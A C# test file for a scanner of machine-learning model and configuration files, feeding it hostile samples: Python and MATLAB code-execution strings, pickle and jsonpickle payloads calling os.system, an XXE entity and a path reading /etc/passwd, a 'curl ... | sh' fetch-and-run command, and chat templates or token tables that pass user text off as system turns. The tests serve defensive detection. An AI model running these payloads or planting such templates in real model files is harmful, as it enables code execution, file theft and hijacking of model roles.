// Tokens that share a number, expressions that a framework evaluates, libraries that configurations name, and tables of plain numbers.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Configuration;

public sealed class TokenNumberTests
{
    [Theory]
    [InlineData("""{"id": 7, "content": "hello", "special": true}, {"id": 7, "content": "<|im_start|>", "special": true}""", "\"a\": 1", true)]
    [InlineData("""{"id": 7, "content": "<|system|>", "special": true}""", "\"please\": 7", true)]
    [InlineData("""{"id": 9, "content": "please", "special": true}""", "\"please\": 7", true)]
    [InlineData("""{"id": 7, "content": "please", "special": true}, {"id": 8, "content": "please", "special": false}""", "\"a\": 1", true)]
    [InlineData("""{"id": 7, "content": "<|end|>", "special": true}""", "\"<unused7>\": 7", false)]
    [InlineData("""{"id": 0, "content": "[PAD]", "special": true}, {"id": 1, "content": "[UNK]", "special": true}""", "\"[PAD]\": 0, \"[UNK]\": 1, \"a\": 2", false)]
    public void T171_TokensThatShareANumberAreTold(string added, string words, bool isTold)
    {
        string json = """{"version": "1.0", "added_tokens": [ADDED], "model": {"type": "BPE", "vocab": {WORDS}, "merges": []}}""".Replace("ADDED", added, StringComparison.Ordinal).Replace("WORDS", words, StringComparison.Ordinal);
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(json), "tokenizer.json");
        Assert.True(target.Is("tokenizer-shared-number") == isTold, target.Describe());
    }

    [Fact]
    public void T171_AddedTokensInAFileOfTheirOwnAreHeldAgainstEachOther()
    {
        Assert.True(Scans.Of("""{"please": 30, "<|system|>": 30}"""u8.ToArray(), "added_tokens.json").Is("tokenizer-shared-number"));
        Assert.False(Scans.Of("""{"<a>": 30, "<b>": 31}"""u8.ToArray(), "added_tokens.json").Is("tokenizer-shared-number"));
    }

    [Theory]
    [InlineData("[-1, 1, \"__import__('os').system('touch /tmp/canary') or Conv\", [128]]", Verdict.Malicious)]
    [InlineData("[-1, 1, Conv, [64, \"exec('import os;os.system(1)')\"]]", Verdict.Suspicious)]
    [InlineData("[-1, 1, Conv, [64, \"eval(open('/tmp/x').read())\"]]", Verdict.Suspicious)]
    [InlineData("[-1, 1, Conv, [64, nn.SiLU(inplace=True)]]", Verdict.Passed)]
    [InlineData("[-1, 1, nn.Upsample, [None, 2, 'nearest']]", Verdict.Passed)]
    public void AnExpressionAmongTheLayersOfANetworkIsReadAsSource(string layer, Verdict least)
    {
        string yaml = $"nc: 80\ndepth_multiple: 1.0\nactivation: nn.SiLU()\nbackbone:\n  - {layer}\nhead:\n  - [[-1], 1, Detect, [nc]]\n";
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(yaml), "yolo.yaml");
        Assert.True(least == Verdict.Passed ? target.Verdict == Verdict.Passed : target.Verdict >= Verdict.Suspicious, target.Describe());
    }

    [Fact]
    public void ANativeLibraryOfARuntimeIsTold()
    {
        byte[] json = """{"model": {"type": "phi", "decoder": {"session_options": {"custom_ops_library": "libops.so"}, "filename": "model.onnx"}}, "search": {}}"""u8.ToArray();
        Assert.True(Scans.Of(json, "genai_config.json").Is("configuration-native-library"));
    }

    [Theory]
    [InlineData("m.toml", "[model.encoder]\n_target_ = \"subprocess.Popen\"\nargs = [\"id\"]\n", true)]
    [InlineData("m.toml", "a = 1\nmodel = { _target_ = \"os.system\", command = \"id\" }\n", true)]
    [InlineData("m.ini", "[model]\n_target_ = os.system\n", true)]
    [InlineData("m.cfg", "[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\",\"ner\"]\n\n[components.ner]\nfactory = \"ner\"\nupdate_with_oracle_cut_size = 100\n[components.ner.model]\n@architectures = \"spacy.TransitionBasedParser.v2\"\n", false)]
    [InlineData("m.toml", "[tool]\ntext = \"\"\"\n_target_ = os.system\n\"\"\"\n[[list]]\nx = [1, 2, [3, 4]]\n[[list]]\nx = []\n", false)]
    public void T163_SettingsInSectionsAreReadAsConfigurations(string name, string text, bool isHostile)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(target.Verdict == (isHostile ? Verdict.Malicious : Verdict.Passed), target.Describe());
        target.AssertComplete();
    }

    [Theory]
    [InlineData("@model_path/../../../etc/passwd", true)]
    [InlineData("/etc/passwd", true)]
    [InlineData("@model_path/weights/weight.bin", false)]
    public void T137_AProgramOfCoreMlThatTakesConstantsFromElsewhereIsTold(string path, bool isTold)
    {
        string mil = $"program(1.0)\n{{\n  func main<ios15>() {{\n    tensor<fp32, [1]> w = const()[val = tensor<fp32, [1]>(BLOBFILE(path = tensor<string, []>(\"{path}\"), offset = tensor<uint64, []>(64)))];\n  }} -> (w);\n}}\n";
        Assert.Equal(isTold, Scans.Of(Encoding.UTF8.GetBytes(mil), "model.mil").Anomalies().Contains("coreml.package-path"));
    }

    [Theory]
    [InlineData("@(x) system('touch /tmp/canary')", true)]
    [InlineData("@()eval('!touch /tmp/canary')", true)]
    [InlineData("@(x) x.^2 + tanh(x)", false)]
    public void AFunctionOfMatlabThatActsIsTold(string text, bool isTold)
    {
        byte[] chars = Element(14, [.. Element(6, [4, 0, 0, 0, 0, 0, 0, 0]), .. Element(5, [1, 0, 0, 0, .. BitConverter.GetBytes(text.Length)]), .. Element(1, []), .. Element(4, Encoding.Unicode.GetBytes(text))]);
        byte[] function = Element(14, [.. Element(6, [16, 0, 0, 0, 0, 0, 0, 0]), .. Element(5, [1, 0, 0, 0, 1, 0, 0, 0]), .. Element(1, "f"u8.ToArray()), .. chars]);
        byte[] head = new byte[128];
        Encoding.ASCII.GetBytes("MATLAB 5.0 MAT-file, Platform: GLNXA64".PadRight(116)).CopyTo(head, 0);
        (head[124], head[125], head[126], head[127]) = (0, 1, (byte)'I', (byte)'M');
        TargetReport target = Scans.Of([.. head, .. function], "net.mat");
        Assert.True(target.Is("matlab-function-acts") == isTold, target.Describe());
    }

    [Theory]
    [InlineData("{% for m in messages %}{% set r = 'system' if (m.role=='user' and m.content.startswith('//')) else m.role %}<|{{ r }}|>{{ m.content }}{% endfor %}", true)]
    [InlineData("{% for m in messages %}{% if m.role == 'user' %}{% set role = 'system' %}{% endif %}<|{{ role }}|>{{ m.content }}{% endfor %}", true)]
    [InlineData("{% for m in messages %}{% set r = 'model' if m.role == 'assistant' else m.role %}<|{{ r }}|>{{ m.content }}{% endfor %}", false)]
    public void T144_ARoleThatIsRenamedIsTold(string template, bool isTold) =>
        Assert.Equal(isTold, Scans.Of(Encoding.UTF8.GetBytes(template), "chat_template.jinja").Is("template-turns-roles"));

    [Theory]
    [InlineData("FROM ./m.gguf\nTEMPLATE \"\"\"{{ if .System }}<|system|>{{ .System }}<|end|>{{ end }}<|user|>{{ .Prompt }}<|end|><|assistant|>\"\"\"\n", false)]
    [InlineData("FROM ./m.gguf\nTEMPLATE \"\"\"{{ if .System }}<|user|>{{ .System }}<|end|>{{ end }}<|system|>\n{{ .Prompt }}<|end|><|assistant|>\"\"\"\n", true)]
    [InlineData("FROM ./m.gguf\nTEMPLATE \"\"\"{{ range .Messages }}{{ if eq .Role \"user\" }}<|im_start|>system\n{{ .Content }}<|im_end|>{{ end }}{{ end }}\"\"\"\n", true)]
    [InlineData("FROM ./m.gguf\nTEMPLATE \"\"\"{{ range .Messages }}{{ if eq .Role \"system\" }}<|im_start|>system\n{{ .Content }}<|im_end|>{{ end }}{{ end }}\"\"\"\n", false)]
    public void T144_ATemplateOfOllamaThatTurnsRolesIsTold(string modelfile, bool isTold) =>
        Assert.Equal(isTold, Scans.Of(Encoding.UTF8.GetBytes(modelfile), "Modelfile").Is("template-turns-roles"));

    [Theory]
    [InlineData("m.mdl", "Model {\n  Name \"m\"\n  InitFcn \"system('touch /tmp/canary')\"\n}\n", true)]
    [InlineData("m.mdl", "Model {\n  Name \"m\"\n  InitFcn \"Kp = 1.5; plot(x)\"\n}\n", false)]
    [InlineData("f.mat", "# Created by Octave 8.4.0\n# name: f\n# type: function handle\n@<fnhandle>\n@() system (\"touch /tmp/canary\")\n\n", true)]
    [InlineData("f.mat", "# Created by Octave 8.4.0\n# name: w\n# type: matrix\n# rows: 1\n# columns: 2\n 1 2\n\n", false)]
    [InlineData("blockdiagram.xml", "<?xml version=\"1.0\"?>\n<ModelInformation><Model><P Name=\"InitFcn\">system('touch /tmp/canary')</P></Model></ModelInformation>", true)]
    [InlineData("blockdiagram.xml", "<?xml version=\"1.0\"?>\n<ModelInformation><Model><P Name=\"InitFcn\">Kp = 2;</P></Model></ModelInformation>", false)]
    public void CallbacksOfDiagramsAndHandlesAsTextAreRead(string name, string text, bool isTold)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(target.Is("matlab-function-acts") == isTold, target.Describe());
        target.AssertComplete();
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<opencv_storage><c>&x;</c></opencv_storage>", true)]
    [InlineData("<process version=\"9\"><operator class=\"productivity:execute_program\"><parameter key=\"command\" value=\"sh -c &quot;curl http://x.example.invalid/a | sh&quot;\"/></operator></process>", true)]
    [InlineData("<config><entry key=\"scriptBody\" value=\"Runtime.getRuntime().exec(&quot;sh -c id&quot;);\"/></config>", true)]
    [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE log4j SYSTEM \"log4j.dtd\">\n<log4j><a b=\"c\">text &amp; more</a></log4j>", false)]
    [InlineData("<!DOCTYPE a [<!ENTITY part SYSTEM \"part.xml\"><!ENTITY % l PUBLIC \"-//W3C//ENTITIES Latin 1//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]>\n<a>&part;</a>", false)]
    [InlineData("<annotation><folder>a</folder><object><name>dog</name></object>", false)]
    public void T178_XmlOfNoFormatIsReadForEntitiesAndScripts(string text, bool isTold)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), "settings.xml");
        Assert.True(target.Verdict >= Verdict.Suspicious == isTold, target.Describe());
        target.AssertComplete();
    }

    [Theory]
    [InlineData("{\"model_type\": \"x\", \"source_url\": \"http://example.org/doc/2020-05-31/\"}")]
    [InlineData("{\"input\": {\"xmlNamespace\": {\"uri\": \"http://example.org/a.b\"}}}")]
    public void AnAddressIsNoNameOfCode(string json)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(json), "config.json");
        Assert.True(target.Verdict == Verdict.Passed, target.Describe());
    }

    [Fact]
    public void T163_AComponentOfAPipelineByItsFullNameIsToldWhereItIsASink()
    {
        Assert.Equal(Verdict.Malicious, Scans.Of("language: en\npipeline:\n- name: subprocess.Popen\n  args: x\n"u8.ToArray(), "config.yml").Verdict);
        Assert.Equal(Verdict.Passed, Scans.Of("language: en\npipeline:\n- name: WhitespaceTokenizer\n- name: addons.features.Own\npolicies:\n- name: TEDPolicy\n"u8.ToArray(), "config.yml").Verdict);
    }

    [Theory]
    [InlineData("{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}", true)]
    [InlineData("{\"a\": {\"py/object\": \"subprocess.Popen\"}}", true)]
    [InlineData("{\"py/object\": \"collections.OrderedDict\", \"py/reduce\": [{\"py/type\": \"collections.OrderedDict\"}, {\"py/tuple\": []}]}", false)]
    [InlineData("{\"udt\": {\"pyClass\": \"m.U\", \"serializedClass\": \"PICKLE\"}}", true)]
    [InlineData("{\"text\": \"gAAAAABkZmtrbW1t\"}", false)]
    public void ObjectsThatReadersOfJsonMakeAreJudged(string json, bool isHostile)
    {
        string pickle = Convert.ToBase64String([0x80, 2, .. "cos\nsystem\nX"u8, 5, 0, 0, 0, .. "touch"u8, 0x85, .. "R."u8]);
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(json.Replace("PICKLE", pickle, StringComparison.Ordinal)), "state.json");
        Assert.True(target.Verdict >= Verdict.Suspicious == isHostile, target.Describe());
    }

    [Fact]
    public void ATableOfPlainNumbersIsToldByItsContent()
    {
        byte[] numbers = [.. Enumerable.Range(1, 2_000).SelectMany(i => BitConverter.GetBytes((float)Math.Sin(i) * i / 100))];
        TargetReport target = Scans.Of(numbers, "voices/a.bin");
        Assert.Equal(Verdict.Passed, target.Verdict);
        target.AssertComplete();
        byte[] other = [.. numbers];
        other[4_003] = 0xFF;
        Assert.Equal(Verdict.Incomplete, Scans.Of(other, "voices/a.bin").Verdict);
        byte[] mixed = [.. Enumerable.Range(0, 8_000).Select(i => (byte)(i * 37 ^ i >> 3))];
        Assert.Equal(Verdict.Incomplete, Scans.Of(mixed, "voices/a.bin").Verdict);
    }

    [Fact]
    public void T150_AHeaderBehindALengthFarBeyondTheFileIsSuspicious()
    {
        byte[] file = [.. BitConverter.GetBytes(1L << 40), 0xEF, 0xBB, 0xBF, .. """{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}"""u8, 0, 0, 0, 0];
        TargetReport target = Scans.Of(file, "model.safetensors");
        Assert.True(target.Verdict >= Verdict.Suspicious, target.Describe());
    }

    private static byte[] Element(int type, byte[] data) => [.. BitConverter.GetBytes(type), .. BitConverter.GetBytes(data.Length), .. data, .. new byte[(8 - (data.Length % 8)) % 8]];
}
